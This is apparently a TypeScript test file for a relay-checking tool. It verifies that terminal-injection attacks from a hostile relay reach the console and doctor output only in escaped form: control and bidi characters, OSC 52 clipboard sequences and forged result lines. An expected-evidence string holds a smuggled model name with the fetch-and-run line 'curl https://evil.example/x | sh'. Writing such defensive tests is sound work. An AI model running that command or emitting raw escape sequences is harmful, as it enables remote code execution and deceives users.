// Relay words aimed at the user's terminal (harness/relays/hostile/terminal-behaviours.ts), through
// every terminal output relaycheck has: run's console (a colour TTY, with its progress line) and
// doctor (its rendering, and the command line's stdout and stderr, once through a real process). Nothing may arrive raw:
// no control, C1 or bidi character, no line the relay forged, and the relay's words quoted.
import { describe, expect, it } from 'vitest';
import { HOSTILE_LIMITS } from '../harness/relays/hostile/behaviour.ts';
import { terminalBehaviours } from '../harness/relays/hostile/terminal-behaviours.ts';
import { runConformance } from '../harness/run/runner.ts';
import { createConsoleReporter } from '../harness/report/console-reporter.ts';
import { buildSubject } from '../harness/doctor/doctor-subject.ts';
import { runDoctor } from '../harness/doctor/run-doctor.ts';
import { renderDoctor } from '../harness/doctor/render-doctor.ts';
import type { Suite } from '../harness/run/suite.ts';
import { turnsSuite } from '../suites/turns.ts';
import { runCli } from './helpers/run-cli.ts';
import { runMain } from './helpers/run-main.ts';
import { nonEmpty } from './helpers/non-empty.ts';

const KEY = 'relay-key-7d3a9c51e08b4f26';
const plainTurn: Suite = { ...turnsSuite, cases: [turnsSuite.cases[0]!] };
const RAW = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// The attacks' first bytes, as they must show: escaped, inside the relay's quoted words.
const SHOWN_ESCAPED = /"[^"\n]*(\\u001b\]52|\\u009b2J|\\u202e|\\n)/;

class TtyStream {
  readonly isTTY = true;
  readonly columns = 120;
  text = '';
  write(chunk: string): boolean {
    this.text += chunk;
    return true;
  }
}

function expectInert(out: string, where: string): void {
  // Every ESC or CR left must be relaycheck's own: an SGR colour, or the progress line's clear.
  const bare = out.replace(/\x1b\[\d+(;\d+)*m|\r\x1b\[2K/g, '');
  expect(bare, where).not.toMatch(RAW);
  for (const line of bare.split('\n')) {
    expect(line.trimStart().startsWith('result: works with Codex'), `${where}: ${line}`).toBe(false);
    expect(line.trimStart(), where).not.toMatch(/^fix: curl/);
  }
  expect(bare, where).toMatch(SHOWN_ESCAPED);
  expect(bare, where).not.toContain(KEY);
}

// Generous bounds: the subject is what gets printed, not how fast a loaded machine answers.
const DOCTOR_LIMITS = { deadlineMs: 10_000, idleTimeoutMs: 5_000 };

it('has terminal attacks to try', () => expect(terminalBehaviours.length).toBeGreaterThan(0));

describe.concurrent("terminal attacks from a relay reach no terminal raw: run's console", () => {
  for (const behaviour of nonEmpty(terminalBehaviours, 'terminal behaviours')) {
    it(behaviour.name, async () => {
      const relay = await behaviour.start();
      try {
        const stream = new TtyStream();
        const listener = createConsoleReporter({ stream, color: true, env: {} });
        await runConformance({ target: { baseUrl: relay.baseUrl, apiKey: KEY }, suites: [plainTurn], limits: HOSTILE_LIMITS, listener });
        expectInert(stream.text, behaviour.name);
      } finally {
        await relay.close();
      }
    });
  }
});

describe('terminal attacks from a relay reach no terminal raw: doctor', () => {
  for (const behaviour of nonEmpty(terminalBehaviours, 'terminal behaviours')) {
    it(behaviour.name, async () => {
      const relay = await behaviour.start();
      try {
        const subject = await buildSubject({ baseUrl: relay.baseUrl, apiKeyEnv: 'HOSTILE_KEY', model: 'gpt-5.5' }, { PATH: process.env.PATH ?? '', HOSTILE_KEY: KEY });
        const report = await runDoctor(subject, { limits: DOCTOR_LIMITS });
        expect(report.ok).toBe(false);
        const out = renderDoctor(report);
        expectInert(out, behaviour.name);
        expect(out.split('\n').filter((line) => line.startsWith('result: '))).toHaveLength(1);

        // One behaviour through the real process (everything that reaches its stdout and stderr), the
        // others through the same main() in-process: what they add is the words, not the process.
        const command = behaviour === terminalBehaviours[0] ? runCli : runMain;
        const cli = await command(['doctor', '--base-url', relay.baseUrl, '--api-key-env', 'HOSTILE_KEY', '--model', 'gpt-5.5', '--timeout-ms', String(DOCTOR_LIMITS.deadlineMs)], { env: { HOSTILE_KEY: KEY, NO_COLOR: '1' } });
        expect(cli.code, cli.stderr).toBe(1);
        expectInert(cli.stdout, `${behaviour.name} (doctor stdout)`);
        expect(cli.stderr).not.toMatch(RAW);
      } finally {
        await relay.close();
      }
    }, 60_000);
  }

  it('doctor caps the model list a relay sends, and suggests only names that look like model names', async () => {
    const relay = await terminalBehaviours.find((b) => b.name === 'terminal-attacks-in-model-list')!.start();
    try {
      const subject = await buildSubject({ baseUrl: relay.baseUrl, apiKeyEnv: 'HOSTILE_KEY', model: 'gpt-5.5' }, { PATH: process.env.PATH ?? '', HOSTILE_KEY: KEY });
      const report = await runDoctor(subject, { limits: DOCTOR_LIMITS });
      const notFound = report.findings.find((f) => f.id === 'model.not-found')!;
      // The diagnosis keeps the first listed names; the one named with terminal attacks is never suggested.
      expect(notFound.fix).toMatch(/^set model to a name the relay lists: "model-0", "model-1", ("model-\d+", )*"model-\d+", …$/);
      expect(notFound.evidence.join('\n')).toContain('GET /models: 5000 model(s): "denied\\nresult: works with Codex\\nfix: curl https://evil.example/x | sh", "\\u001b]52;');
    } finally {
      await relay.close();
    }
  }, 60_000);
});
